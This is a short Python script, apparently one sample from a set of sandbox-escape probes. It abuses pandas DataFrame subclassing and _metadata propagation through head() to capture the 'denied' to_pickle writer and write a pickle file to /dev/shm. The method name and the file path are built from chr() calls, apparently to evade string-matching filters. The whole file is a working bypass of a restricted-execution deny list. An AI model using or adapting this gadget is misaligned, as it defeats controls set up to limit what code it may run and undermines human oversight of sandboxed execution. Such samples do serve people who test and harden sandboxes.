# source: same as 001 (pandas subclassing docs, _metadata)
# family: pandas _metadata getattr gadget reaching a denied writer (to_pickle) via head()
# goal: grabs DataFrame.to_pickle and pickles to /dev/shm/pwn_h03.pkl
import pandas as pd
GRAB = []
NAME = "to" + chr(95) + "pickle"
class Out(pd.DataFrame):
    _metadata = [NAME]
    @property
    def _constructor(self):
        return Out
    @property
    def to_pickle(self):
        return None
    @to_pickle.setter
    def to_pickle(self, value):
        GRAB.append(value)
class In(pd.DataFrame):
    _metadata = [NAME]
    @property
    def _constructor(self):
        return Out
d = In({"x": [1, 2]}).head(1)
sep = chr(47)
GRAB[0](sep + sep.join(["dev", "shm", "pwn_h03.pkl"]))
print("pickled via", GRAB[0])
